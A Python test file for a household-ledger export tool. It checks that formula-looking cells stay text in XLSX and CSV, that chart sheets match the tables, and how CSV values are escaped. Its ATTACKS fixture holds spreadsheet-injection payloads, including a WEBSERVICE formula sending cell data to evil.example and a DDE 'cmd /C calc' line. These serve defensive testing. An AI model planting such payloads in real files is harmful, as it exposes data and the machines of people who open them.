"""Every export through the one writer: a ledger cell that looks like a formula stays text in
XLSX and CSV (the attack of a hostile ledger file), and the chart sheet agrees with the table and
the summary cell by cell."""

from __future__ import annotations

import csv
import io
from collections import Counter

from openpyxl import load_workbook

from fieldkit.i18n import outcome_text, t
from fieldkit.ledger.exporter import export_households
from fieldkit.ledger.importer import import_file
from fieldkit.reports import export
from tests.ledger_support import make_id
from tests.reports_support import busy_day

ATTACKS = [
    '=WEBSERVICE("http://evil.example/?"&B3)',
    '=HYPERLINK("http://evil.example","点我")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
]


def test_formula_cells_from_a_ledger_file_are_exported_as_text(store, tmp_path):
    rows = [["姓名", "身份证号", "楼栋", "房号", "与户主关系", "疫苗接种情况"]]
    for i, attack in enumerate(ATTACKS):
        rows.append([f"张{i}", make_id(i + 1), "1栋", str(101 + i), attack, attack])
    src = tmp_path / "in.csv"
    buf = io.StringIO()
    csv.writer(buf).writerows(rows)
    src.write_text(buf.getvalue(), encoding="utf-8")
    assert import_file(store, src).imported == len(ATTACKS)

    export_households(store, tmp_path / "out.xlsx")
    ws = load_workbook(tmp_path / "out.xlsx").active
    found = []
    for row in ws.iter_rows(min_row=3):
        for cell in row:
            if cell.value in ATTACKS:
                assert cell.data_type == "s", cell.value  # a string, never a formula
                found.append(cell.value)
    assert Counter(found) == Counter(ATTACKS * 2)
    # No formula element anywhere in the sheet XML.
    import zipfile

    with zipfile.ZipFile(tmp_path / "out.xlsx") as z:
        assert b"<f>" not in z.read("xl/worksheets/sheet1.xml")

    export_households(store, tmp_path / "out.csv")
    text = (tmp_path / "out.csv").read_bytes().decode("utf-8-sig")
    cells = [c for r in csv.reader(io.StringIO(text)) for c in r]
    for attack in ATTACKS:
        assert "'" + attack in cells and attack not in cells


def test_chart_sheet_agrees_with_table_and_summary_cell_by_cell(store, tmp_path):
    store.shifts.open("王芳")
    busy_day(store)
    out = tmp_path / "daily.xlsx"
    export(store, "shift-log", out)
    wb = load_workbook(out)
    assert len(wb["图表"]._charts) == 2  # the native charts are there
    log = [[c.value for c in r] for r in wb["值班登记"].iter_rows()]
    head = log[0]
    col = {k: head.index(t(f"export.col.{k}", "zh")) for k in ("time", "direction", "decision")}
    admit = outcome_text("admit", "zh")
    persons = [r for r in log[1:] if r[head.index(t("export.col.event", "zh"))] == "人员"]
    table = {("in", h): 0 for h in range(24)} | {("out", h): 0 for h in range(24)}
    for r in persons:
        if r[col["decision"]] == admit and not r[head.index(t("export.col.corrected", "zh"))]:
            way = "in" if r[col["direction"]] == t("direction.in", "zh") else "out"
            table[(way, r[col["time"]].hour)] += 1
    chart = [[c.value for c in r] for r in wb["图表"].iter_rows(min_row=2, max_row=25)]
    for h, (label, n_in, n_out) in enumerate(row[:3] for row in chart):
        assert label == f"{h:02d}"
        assert (n_in, n_out) == (table[("in", h)], table[("out", h)]), h
    summary = {r[0].value: r[1].value for r in wb["汇总"].iter_rows(min_row=2)}
    assert sum(r[1] for r in chart) == summary["进入"] == 3
    assert sum(r[2] for r in chart) == summary["外出"] == 2


def test_csv_cell_text_for_every_kind_of_value():
    """The CSV cell rule, fast path and slow path alike: formula-like text escaped after the
    characters a workbook cannot hold are removed, seconds without microseconds, numbers never
    escaped, non-ASCII spaces kept."""
    from datetime import date, datetime, timedelta, timezone

    from fieldkit.sheets.cells import csv_text

    cases = [
        ("=1+1", "'=1+1"),
        ("\x01=HYPERLINK(1)", "'=HYPERLINK(1)"),
        ("a\x00b", "ab"),
        ("\tx", "'\tx"),
        ("＝SUM(A1)", "'＝SUM(A1)"),
        ("\u3000全角 空格", "\u3000全角 空格"),
        ("", ""),
        (None, ""),
        (True, "是"),
        (False, ""),
        (36.55, "36.5"),
        (-3, "-3"),
        (datetime(2024, 3, 1, 8, 5, 0, 123456), "2024-03-01 08:05:00"),
        (datetime(2024, 3, 1, 8, 5, tzinfo=timezone(timedelta(hours=8))), "2024-03-01 08:05:00"),
        (date(2024, 3, 1), "2024-03-01"),
    ]
    assert [csv_text(value) for value, _ in cases] == [text for _, text in cases]
